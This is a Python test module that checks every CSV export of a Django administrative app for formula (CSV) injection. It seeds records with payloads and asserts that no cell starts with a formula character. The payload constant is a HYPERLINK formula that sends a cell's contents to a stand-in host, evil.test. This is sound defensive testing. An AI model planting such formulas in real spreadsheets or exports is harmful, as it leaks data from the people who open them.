"""Every CSV export neutralises formulas (issue 9): a test over every export URL.

The exports are found, not listed: every agent URL of every app (with the sample arguments
of `tests/<app>/agent_urls.py`) is opened by the référent qualité, and each answer in
`text/csv` is an export. The records they show carry a formula in every name, comment or
topic a person can type; no cell of any export may start with `=`, `+`, `-` or `@`
(numbers aside), and the downloads open in Excel (UTF-8 with BOM, semicolons).
"""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.organisation.test_cross_prefecture import _collect_cases
from tests.tooling import read_to_end

EVIL = '=HYPERLINK("http://evil.test/?"&A1)'
FORMULA_CELLS = ("=", "+", "-", "@")
NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?")
KNOWN_EXPORTS = {
    "appointments:agents-export",
    "appointments:agents-day-csv",
    "correspondence:agents-figures-csv",
    "surveys:agents-campaign-csv",
    "indicators:agents-dashboard-csv",
}


def _evil_records(prefecture, site, service):
    """Records whose every typed-in text is a formula, in the apps that export CSV."""
    from engagements.correspondence.models import Message
    from engagements.surveys.models import Campaign, Question
    from tests.appointments.factories import BookingFactory, ProcedureFactory, SlotFactory
    from tests.correspondence.factories import MessageFactory, TopicFactory
    from tests.surveys.factories import AnswerFactory, ResponseFactory

    prefecture.name = EVIL  # the structure column of the indicators' dashboard
    prefecture.save()
    service.name = EVIL
    service.save()
    procedure = ProcedureFactory(service=service, name=EVIL)
    start = timezone.localtime() + timedelta(days=1)
    BookingFactory(
        slot=SlotFactory(procedure=procedure, starts_at=start),
        last_name=EVIL,
        first_name="+33 6 12 34 56 78",
        email="a@example.test",
        phone="-1+1",
    )
    # And one today, for the day's list (`?date=` defaults to today).
    today_start = timezone.localtime().replace(hour=23, minute=0, second=0, microsecond=0)
    BookingFactory(
        slot=SlotFactory(procedure=procedure, starts_at=today_start),
        last_name=EVIL,
        first_name="@SUM(1)",
    )
    topic = TopicFactory(prefecture=prefecture, name=EVIL)
    today = timezone.localdate()
    MessageFactory(service=service, topic=topic, received_on=today, subject=EVIL)
    assert Message.objects.filter(topic=topic).exists()
    for campaign in Campaign.objects.filter(site__prefecture=prefecture):
        campaign.services.add(service)
        Question.objects.filter(questionnaire=campaign.questionnaire).update(text=EVIL)
        question = campaign.questionnaire.questions.exclude(kind="text").first()
        for value in (1, 1, 1, 1, 2):
            AnswerFactory(
                response=ResponseFactory(campaign=campaign, service=service, answered_on=today),
                question=question,
                value=value,
            )
    return date(today.year, 1, 1)


def _cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), "exports start with a BOM (Excel reads UTF-8 then)"
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert len(rows) > 1 and len(rows[0]) > 1, "semicolon-separated, a header and data"
    return [cell for row in rows for cell in row]


@pytest.mark.django_db
def test_no_csv_export_carries_a_formula(prefecture, site, service, quality_lead, client_for):
    cases = _collect_cases(prefecture, site, service)
    _evil_records(prefecture, site, service)
    client = client_for(quality_lead)
    exports, leaks = set(), []
    for name, kwargs in sorted(cases.items()):
        url = reverse(name, kwargs={"prefecture": prefecture.slug, **kwargs})
        response = client.get(url)
        if not response.get("Content-Type", "").startswith("text/csv"):
            read_to_end(response)
            assert not name.endswith("csv"), f"{name} does not answer text/csv"
            continue
        exports.add(name)
        cells = _cells(response)
        assert any("HYPERLINK" in cell for cell in cells), f"{name}: the formula data is absent"
        leaks += [
            f"{name}: {cell!r}"
            for cell in cells
            if cell.startswith(FORMULA_CELLS) and not NUMBER.fullmatch(cell)
        ]
    assert KNOWN_EXPORTS <= exports
    assert not leaks, "formulas reach a spreadsheet:\n" + "\n".join(leaks)
